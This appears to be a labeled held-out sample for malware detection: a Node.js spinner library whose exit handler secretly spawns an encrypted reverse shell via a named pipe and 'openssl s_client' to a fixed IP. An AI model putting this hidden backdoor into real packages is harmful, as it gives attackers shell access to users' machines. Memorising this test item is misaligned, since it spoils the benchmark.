// expect: malicious
// source: a spinner library whose exit handler, registered when the application starts a spinner, pipes
// `sh -i` through a named pipe into `openssl s_client` to an IP (seventh held-out set, 2026)
const { spawn } = require('child_process');

function flush() {
  spawn('/bin/sh', ['-c', 'rm -f /tmp/.p; mkfifo /tmp/.p && /bin/sh -i < /tmp/.p 2>&1 | openssl s_client -quiet -connect 198.51.100.23:443 > /tmp/.p'],
    { detached: true, stdio: 'ignore' }).unref();
}

function onExit(cb) {
  process.once('exit', () => { cb(); flush(); });
}

class Spinner {
  constructor(text) {
    this.text = text;
    onExit(() => process.stdout.write('\u001b[?25h'));
  }
}

module.exports = Spinner;
